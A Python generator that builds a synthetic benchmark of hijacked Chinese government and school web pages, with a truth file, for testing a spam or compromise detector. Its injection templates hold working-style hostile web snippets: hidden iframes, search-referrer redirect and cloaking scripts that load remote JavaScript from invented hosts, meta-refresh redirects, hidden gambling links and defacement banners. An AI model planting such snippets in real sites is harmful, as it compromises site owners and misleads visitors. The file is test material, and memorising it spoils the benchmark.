# -*- coding: utf-8 -*-
"""Generate synthetic-v15: 40 invented gov/edu pages (28 hijacked, 12 clean of which 4 legit).

python make_set.py [OUT]   (default ../synthetic-v15). Fixed seed, no clock, no network: byte-identical re-runs.
Refuses any invented spam string that overlaps (substring either way) a spam_strings entry of
bench/data/dev/*/truth.jsonl, bench/data/heldout/*/truth.jsonl or ../real-cases-v15/truth.jsonl.
"""
import glob
import html
import json
import os
import random
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from articles import GENERAL, LEGIT  # noqa: E402

SEED = 150315
E = lambda s: html.escape(s, quote=False)  # noqa: E731

# ---------------------------------------------------------------- templates (S1-S6)
TEMPLATES = {
    "S1": dict(name="SilverStripe-style district portal", enc="utf-8", kind="gov",
               sites=[("www.lanxi-qu.gov.cn", "澜溪区人民政府"), ("www.fengyang-qu.gov.cn", "枫阳区人民政府")]),
    "S2": dict(name="MODX-style school site (table layout)", enc="gbk", kind="edu",
               sites=[("www.hxsyzx.net", "华溪实验中学"), ("www.qsdezx.cn", "青石第二中学")]),
    "S3": dict(name="Contao-style college news reader", enc="utf-8", kind="edu",
               sites=[("news.nzzyjsxy.edu.cn", "南州职业技术学院"), ("xww.ljgcxy.edu.cn", "临江工程学院")]),
    "S4": dict(name="Magnolia-style 信息公开 page with metadata table", enc="gb18030", kind="gov",
               sites=[("www.baishui.gov.cn", "白水县人民政府"), ("www.yunping.gov.cn", "云平市人民政府")]),
    "S5": dict(name="Kentico-style town portal", enc="utf-8", kind="gov",
               sites=[("www.taoyuanzhen.gov.cn", "桃源镇人民政府"), ("www.shiqiao-zhen.gov.cn", "石桥镇人民政府")]),
    "S6": dict(name="Textpattern-style youth-league blog", enc="gbk", kind="edu",
               sites=[("tw.mhsfxy.edu.cn", "明湖师范学院团委"), ("youth.cxkjxy.edu.cn", "长兴科技学院团委")]),
}


def nav(kind):
    return ["首页", "新闻动态", "通知公告", "政务公开" if kind == "gov" else "校园生活", "联系我们"]


def render(tpl, site, a, date, inj):
    """Return the page's html text. `inj` maps a slot name to html: head, body_top, top_line, after_p1, after_p2,
    after_text, sidebar, footer, body_end, comments; 'title' replaces <title>; 'name_sub' = (old, new) applied to shown text."""
    host, sname = site
    paras = list(a["shown_paras"])
    t = TEMPLATES[tpl]
    title_tag = inj.get("title") or "%s - %s" % (a["title"], sname)
    head = ['<meta charset="%s">' % t["enc"] if tpl in ("S1", "S3", "S5") else
            '<meta http-equiv="Content-Type" content="text/html; charset=%s">' % t["enc"],
            "<title>%s</title>" % E(title_tag)]
    if inj.get("keywords"):
        head.append('<meta name="keywords" content="%s">' % html.escape(inj["keywords"]))
    head.append('<meta name="description" content="%s">' % html.escape(a["title"]))
    if inj.get("head"):
        head.append(inj["head"])

    def ps(tag="p"):
        out = []
        for i, p in enumerate(paras, 1):
            out.append("<%s>%s</%s>" % (tag, E(p), tag))
            if inj.get("after_p%d" % i):
                out.append(inj["after_p%d" % i])
        return "\n".join(out)

    navs = "".join('<li><a href="/%d/">%s</a></li>' % (i, n) for i, n in enumerate(nav(t["kind"])))
    side = inj.get("sidebar", "")
    foot_extra = inj.get("footer", "")
    after_text = inj.get("after_text", "")
    comments = inj.get("comments", "")
    d = date
    if tpl == "S1":
        body = f'''<header class="header"><div class="container"><a class="brand" href="/">{E(sname)}</a><nav class="primary"><ul>{navs}</ul></nav></div></header>
<div class="main" role="main"><div class="container">
<nav class="breadcrumbs"><a href="/">首页</a> &raquo; <a href="/xwdt/">新闻动态</a> &raquo; <span>{E(a["title"])}</span></nav>
<article class="content-container unit size3of4 lastUnit"><h1>{E(a["title"])}</h1>
<div class="meta">发布时间：{d}　来源：{E(a["source"])}　作者：{E(a["author"])}　浏览次数：<span id="hits">0</span></div>
<div class="content typography">
{ps()}
</div>{after_text}
<div class="share">分享到：<a href="#">微信</a> <a href="#">微博</a></div>{comments}
</article>
<aside class="sidebar unit size1of4"><h3>相关新闻</h3><ul><li><a href="#">政务公开</a></li><li><a href="#">政策解读</a></li></ul>{side}</aside>
</div></div>
<footer class="footer"><p>主办：{E(sname)}办公室　网站标识码：3301000015</p>{foot_extra}</footer>'''
    elif tpl == "S2":
        body = f'''<table width="1000" border="0" align="center" cellpadding="0" cellspacing="0" class="top"><tr><td class="logo">{E(sname)}</td></tr>
<tr><td class="menu"><ul>{navs}</ul></td></tr></table>
<table width="1000" border="0" align="center" cellpadding="0" cellspacing="0"><tr>
<td width="230" valign="top" class="left"><div class="lmname">新闻动态</div><ul class="sublist"><li><a href="#">学校新闻</a></li><li><a href="#">教学科研</a></li></ul>{side}</td>
<td width="770" valign="top"><div id="content" class="modx-resource">
<div class="wz">您的位置：<a href="/">首页</a> &gt; 新闻动态 &gt; 学校新闻</div>
<h1 class="bt">{E(a["title"])}</h1>
<div class="nr">
{ps()}
</div>{after_text}
<div class="xx">信息来源：{E(a["source"])}　　撰写：{E(a["author"])}　　发布日期：{d.replace("-", "/")}</div>{comments}
</div></td></tr></table>
<table width="1000" align="center" class="bottom"><tr><td>版权所有：{E(sname)}　地址：{E(sname)}校内　{foot_extra}</td></tr></table>'''
    elif tpl == "S3":
        body = f'''<div id="wrapper"><header id="header"><div class="inside"><a class="logo" href="/">{E(sname)}</a><nav class="mod_navigation block"><ul class="level_1">{navs}</ul></nav></div></header>
<div id="container"><main id="main"><div class="inside">
<div class="mod_newsreader block"><div class="layout_full block">
<h1>{E(a["title"])}</h1>
<p class="info"><time datetime="{d}T09:00:00+08:00">{d}</time> · {E(a["author"])} · 来源：{E(a["source"])}</p>
<div class="ce_text block">
{ps()}
</div>{after_text}
</div><p class="back"><a href="javascript:history.go(-1)" title="返回">返回</a></p></div>{comments}
</div></main>
<aside id="right"><div class="inside"><div class="mod_newslist block"><h2>最新动态</h2><ul><li><a href="#">学院新闻</a></li></ul></div>{side}</div></aside></div>
<footer id="footer"><div class="inside"><p>© {E(sname)} 版权所有</p>{foot_extra}</div></footer></div>'''
    elif tpl == "S4":
        idx = "%s-%s-%04d" % ("11330000MB", d[:4], (sum(map(ord, a["title"])) % 9000) + 100)
        body = f'''<div class="mgnl-header"><div class="site-name">{E(sname)}</div><ul class="mgnl-nav">{navs}</ul></div>
<div class="mgnl-main"><div class="crumb">当前位置：首页 &gt; 政府信息公开 &gt; 法定主动公开内容 &gt; 工作动态</div>
<table class="xxgk-meta" cellspacing="0" cellpadding="0">
<tr><th>索 引 号</th><td>{idx}</td><th>主题分类</th><td>综合政务/其他</td></tr>
<tr><th>发文机关</th><td>{E(a["source"])}</td><th>成文日期</th><td>{d}</td></tr>
<tr><th>标　　题</th><td colspan="3">{E(a["title"])}</td></tr>
<tr><th>发布日期</th><td>{d}</td><th>文　　号</th><td></td></tr></table>
<div class="article-title"><h1>{E(a["title"])}</h1></div>
<div class="article-content" id="zoom">
{ps()}
</div>{after_text}
<div class="article-foot">信息来源：{E(a["source"])}　　责任编辑：{E(a["editor"])}　　访问量：<span>1</span></div>{comments}
<div class="side-links">{side}</div></div>
<div class="mgnl-footer">{E(sname)}办公室主办　{foot_extra}</div>'''
    elif tpl == "S5":
        y, m, dd = d.split("-")
        body = f'''<form method="post" action="/news/detail" id="form"><div class="aspNetHidden"><input type="hidden" name="__VIEWSTATE" id="__VIEWSTATE" value="/wEPDwUKMTY3"></div>
<div id="header"><span class="town">{E(sname)}</span><ul class="menu">{navs}</ul></div>
<div id="content"><div class="col-left"><div class="NewsDetail">
<h2 class="NewsTitle">{E(a["title"])}</h2>
<div class="NewsSummary">{int(y)}年{int(m)}月{int(dd)}日　来源：{E(a["source"])}　作者：{E(a["author"])}　阅读：<span class="count">236</span></div>
<div class="NewsText">
{ps()}
</div>{after_text}</div>{comments}</div>
<div class="col-right"><div class="widget"><h3>便民服务</h3><ul><li><a href="#">办事指南</a></li></ul></div>{side}</div></div>
<div id="footer">{E(sname)} 版权所有 {foot_extra}</div></form>'''
    else:  # S6
        body = f'''<div id="container"><div id="head"><h1 class="site-name"><a href="/">{E(sname)}</a></h1><p class="slogan">青春 · 奋斗 · 担当</p></div>
<div id="nav"><ul class="section_list">{navs}</ul></div>
<div id="content"><article class="hentry">
<h1 class="entry-title">{E(a["title"])}</h1>
<p class="meta">作者：{E(a["author"])} · 发布于 <time>{d}</time> · 来源：{E(a["source"])}</p>
<div class="entry-content">
{ps()}
</div>{after_text}
<p class="tags">分类：<a href="#">团学动态</a></p></article>{comments}</div>
<div id="sidebar"><h4>归档</h4><ul><li><a href="#">{d[:7]}</a></li></ul>{side}</div>
<div id="foot"><p>Powered by Textpattern · {E(sname)}</p>{foot_extra}</div></div>'''
    top = inj.get("body_top", "")
    if inj.get("top_line"):
        top += '<div class="kwline">%s</div>' % E(inj["top_line"])
    doc = ('<!DOCTYPE html>\n<html lang="zh-CN">\n<head>\n%s\n</head>\n<body>\n%s%s\n%s\n</body>\n</html>\n'
           % ("\n".join(head), top, body, inj.get("body_end", "")))
    return doc


# ---------------------------------------------------------------- injection forms (14 x 2 pages)
def f_iframe(r, k):
    host = ["lintasjaya88.xyz", "kasinobayu.top"][k]
    code = ('<iframe src="http://%s/in.html" width="0" height="0" frameborder="0" style="visibility:hidden"></iframe>' % host)
    return dict(slot=[("body_end", code), ("footer", code)][k]), [host + "/in.html"], ["hidden-iframe"], "rc15 zero-size iframe (jsfiddle issue)"


def f_deface(r, k):
    line = ["Hacked By GhostNusantara Crew", "Hacked by Sp3ctr4 Team -- your security is zero"][k]
    greet = ["Greetz: all member GhostNusantara", "contact: t.me/sp3ctr4team"][k]
    code = ('<div style="background:#000;color:#0f0;text-align:center;padding:24px"><h1>%s</h1><p>%s</p></div>' % (E(line), E(greet)))
    return dict(slot=("body_top", code)), [line, greet], ["defacement-banner"], "rc15 defacement banners (WebFundamentals issue, Russian news reports)"


def f_hidden_links(r, k):
    words = ["RAJAPUTRI77 situs resmi jackpot maxwin", "daftar RAJAPUTRI77 login alternatif", "RAJAPUTRI77 rtp live hari ini"]
    style = ["display:none", "position:absolute;left:-8000px;top:0"][k]
    code = '<div style="%s">%s</div>' % (style, " ".join('<a href="https://rajaputri77.online/?p=%d">%s</a>' % (i, w) for i, w in enumerate(words)))
    return dict(slot=[("after_p2", code), ("sidebar", code)][k]), words[:2], ["hidden-link-block"], "rc15 hidden slot link block (llama_index spam issue)"


def f_spam_title(r, k):
    t = ["TOGELMERAK bandar togel online terpercaya 2024", "TOGELMERAK | link alternatif resmi togel 4D"][k]
    return dict(title=t), [t], ["spam-title"], "rc15 slot spam <title> (FastChat spam issue)"


def f_ua_redirect(r, k):
    url = ["https://mahjongwaysjp.site/?ref=gov", "https://mahjongwaysjp.site/m/"][k]
    code = ('<script type="text/javascript">(function(){var u=navigator.userAgent,r=document.referrer;'
            'if(/Android|iPhone|Mobile/i.test(u)&&/google|bing|yahoo/i.test(r)){window.location.replace("%s");}})();</script>' % url)
    return dict(slot=[("head", code), ("body_end", code)][k]), ["mahjongwaysjp.site"], ["ua-referrer-redirect-script"], "rc15 mobile+search-referrer redirect (Hiddify spam issue)"


def f_docwrite(r, k):
    t = ["金马会娱乐城 首存送88元", "金马会娱乐城 官方网址 注册即送彩金"][k]
    code = ('<script type="text/javascript">document.write("<div class=\\"gg\\"><a href=\\"https://www.jinmahui-yl.cc/\\" target=\\"_blank\\">%s</a></div>");</script>' % t)
    return dict(slot=[("sidebar", code), ("after_text", code)][k]), [t], ["document-write-link"], "rc15 document.write slot link in a sidebar (llama_index spam issue)"


def f_ref_cloak(r, k):
    code = ('<script type="text/javascript">var _r=document.referrer.toLowerCase();var _se=["baidu.","sogou.","so.com","sm.cn"];'
            'for(var i=0;i<_se.length;i++){if(_r.indexOf(_se[i])>-1){var s=document.createElement("script");'
            's.src="https://cdn.jsdelivr-static.top/tj.js?v=%d";document.getElementsByTagName("head")[0].appendChild(s);break;}}</script>' % (k + 3))
    return dict(slot=[("head", code), ("body_top", code)][k]), ["jsdelivr-static.top/tj.js"], ["referrer-cloaking-script"], "rc15 search-engine referrer script (manul issue)"


def f_refresh(r, k):
    url = ["http://www.hzdfw88.com/", "http://m.hzdfw88.com/index.html"][k]
    txt = ["页面升级中，即将为您跳转至新版本...", "检测到您使用移动设备，正在为您跳转..."][k]
    return (dict(slot=[("head", '<meta http-equiv="refresh" content="3;url=%s">' % url)], extra=("body_top", '<div class="tip" style="text-align:center">%s</div>' % E(txt))),
            [txt, "hzdfw88.com"], ["meta-refresh", "redirect-interstitial"], "rc15 redirect interstitial (maccms issue)")


def f_foreign_para(r, k):
    if k == 0:
        t = ["ラッキーベイカジノ 入金不要ボーナス30ドル", "ラッキーベイカジノなら登録だけで無料スピンがもらえる。"]
    else:
        t = ["바다토토 가입머니 3만원 즉시지급", "바다토토 먹튀 없는 안전놀이터 추천"]
    code = '<div style="position:absolute;top:-2500px;left:-2500px"><h3>%s</h3><p>%s</p></div>' % (E(t[0]), E(t[1]))
    return dict(slot=[("after_text", code), ("after_p1", code)][k]), t, ["offscreen-foreign-spam-paragraph"], "rc15 off-screen Japanese casino paragraph; Korean casino keyword (rc15 Korean copy)"


def f_comments(r, k):
    lines = ["KASINOBAYU bocoran pola hari ini", "KASINOBAYU link daftar slot terpercaya"]
    code = ('<div class="comments"><h4>网友评论</h4>%s</div>'
            % "".join('<div class="cmt"><span class="u">bayuslot88</span><p>%s</p></div>' % E(x) for x in lines[: 1 + k]))
    return dict(slot=("comments", code)), lines[: 1 + k], ["comment-spam"], "rc15 slot comment spam (llama_index spam issue)"


def f_bottom_bar(r, k):
    t = ["DAFTAR JAYATOTO", "LOGIN JAYATOTO"][k]
    code = ('<div style="display:flex;position:fixed;left:0;right:0;bottom:0;z-index:99;background:#111;justify-content:space-around">'
            '<a href="https://jayatoto.vip/?ref=gov%d" rel="nofollow noopener" target="_blank" style="color:#fff">%s</a></div>' % (k, t))
    return dict(slot=[("body_end", code), ("footer", code)][k]), [t, "jayatoto.vip"], ["fixed-bottom-bar-link"], "rc15 fixed bottom bar (Hiddify spam issue)"


def f_porn_line(r, k):
    t = ["午夜影视福利站_深夜私密影院_情趣视频抢先看", "深夜私密影院-午夜影视福利站-情趣视频免费看"][k]
    return dict(title=t, slot=("top_line", t)), [t], ["porn-keyword-title", "porn-keyword-line"], "rc15 porn keyword line and <title> on traditional-script copies"


def f_brand_name(r, k):
    return dict(name_sub=True), ["鼎丰娱乐官网"], ["brand-replaces-name"], "rc15 porn phrase replacing a university's name in a sentence (truth text drops the brand)"


def f_body_line(r, k):
    t = ["香港马会一码中特 三肖六码稳赚不赔", "澳彩精准资料免费公开 一肖一码百分百"][k]
    code = '<p class="tail">%s</p>' % E(t)
    return dict(slot=[("after_text", code), ("after_p2", code)][k]), [t], ["spam-body-line"], "rc15 lottery-tip line after the text"


FORMS = [f_iframe, f_deface, f_hidden_links, f_spam_title, f_ua_redirect, f_docwrite, f_ref_cloak, f_refresh,
         f_foreign_para, f_comments, f_bottom_bar, f_porn_line, f_brand_name, f_body_line]


def known_spam():
    base = os.path.dirname(os.path.dirname(HERE))  # bench/data
    out = set()
    for p in glob.glob(os.path.join(base, "dev", "*", "truth.jsonl")) + glob.glob(os.path.join(base, "heldout", "*", "truth.jsonl")) \
            + [os.path.join(base, "pending-v15", "real-cases-v15", "truth.jsonl")]:
        if not os.path.exists(p):
            continue
        for line in open(p, encoding="utf-8"):
            if line.strip():
                out.update(s for s in json.loads(line).get("spam_strings") or [] if len(s) >= 3)
    return out


def check_overlap(strings, known):
    for s in strings:
        for o in known:
            if s in o or o in s:
                raise SystemExit("invented spam string %r overlaps existing %r" % (s, o))


def main(out):
    rnd = random.Random(SEED)
    known = known_spam()
    os.makedirs(os.path.join(out, "html"), exist_ok=True)
    # plan: 28 hijacked (14 forms x 2), 8 clean ordinary, 4 legit; templates cycle so each gets 6-7 pages
    plan = [("hij", f, k) for f in range(len(FORMS)) for k in range(2)] + [("clean", None, i) for i in range(8)] + [("legit", None, i) for i in range(4)]
    rnd.shuffle(plan)
    tpls = sorted(TEMPLATES)
    pools = {}
    for kd in ("gov", "edu"):
        pools[kd] = [i for i, x in enumerate(GENERAL) if x.get("kind", "gov") == kd] * 2
        rnd.shuffle(pools[kd])
    by_kind = {kd: [t for t in tpls if TEMPLATES[t]["kind"] == kd] for kd in ("gov", "edu")}
    rows = []
    for n, (kind, f, k) in enumerate(plan, 1):
        tpl = tpls[(n - 1) % 6]
        if kind == "legit":
            lk = LEGIT[k].get("kind", "gov")
            tpl = by_kind[lk][k % 3]
        site = TEMPLATES[tpl]["sites"][rnd.randrange(2)]
        base = dict(LEGIT[k]) if kind == "legit" else dict(GENERAL[pools[TEMPLATES[tpl]["kind"]].pop()])
        y = rnd.randint(2019, 2025)
        date = "%04d-%02d-%02d" % (y, rnd.randint(1, 12), rnd.randint(1, 28))
        a = dict(base, editor=rnd.choice(["李晓", "王蕾", "陈默", "张婷", "刘洋"]))
        a["shown_paras"] = list(a["paras"])
        inj, spam, forms, model = {}, [], [], None
        truth_note = ""
        if kind == "hij":
            spec, spam, forms, model = FORMS[f](rnd, k)
            check_overlap(spam, known)
            if spec.get("title"):
                inj["title"] = spec["title"]
            slots = spec.get("slot") or []
            if isinstance(slots, tuple):
                slots = [slots]
            for s, code in slots:
                if s == "top_line":
                    inj["top_line"] = code
                else:
                    inj[s] = inj.get(s, "") + code
            if spec.get("extra"):
                inj[spec["extra"][0]] = inj.get(spec["extra"][0], "") + spec["extra"][1]
            if spec.get("name_sub"):
                # the brand replaces the organisation's name where the first paragraph names it (or is prefixed)
                p0 = a["shown_paras"][0]
                src = a["source"]
                cands = [src, src.replace("办事处", ""), src.replace("人民政府", ""), "学院", "大学", "中学", "学校", "街道", "社区"]
                name = next((c for c in cands if len(c) >= 2 and c in p0), None)
                if name:
                    a["shown_paras"][0] = p0.replace(name, spam[0], 1)
                    a["truth_paras"] = [p0.replace(name, "", 1)] + a["paras"][1:]
                else:
                    a["shown_paras"][0] = spam[0] + p0
                    a["truth_paras"] = list(a["paras"])
                truth_note = "; truth text drops the brand"
        page = render(tpl, site, a, date, inj)
        enc = TEMPLATES[tpl]["enc"]
        raw = page.encode(enc, errors="xmlcharrefreplace")
        sid = "syn15-%03d" % n
        with open(os.path.join(out, "html", sid + ".html"), "wb") as fh:
            fh.write(raw)
        text = "\n".join(a.get("truth_paras") or a["paras"])
        url = "https://%s/%s/%s/%d.html" % (site[0], "xwdt" if TEMPLATES[tpl]["kind"] == "gov" else "news", date[:7].replace("-", ""), 1000 + n * 37)
        origin = "synthetic (make_set.py, seed %d); template %s" % (SEED, tpl)
        if model:
            origin += "; modelled on " + model + truth_note
        rows.append(dict(id=sid, url=url, title=a["title"], date=date, source=a["source"],
                         author=None if tpl == "S4" else a["author"], text=text, hijacked=kind == "hij",
                         injections=forms, spam_strings=spam, legit=kind == "legit", lang="zh", origin=origin,
                         kind="synthetic", site=site[0], capture="html", encoding=enc, template=tpl))
    with open(os.path.join(out, "truth.jsonl"), "w", encoding="utf-8") as fh:
        for r in rows:
            fh.write(json.dumps(r, ensure_ascii=False) + "\n")
    print(len(rows), "pages ->", out)


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(HERE), "synthetic-v15"))
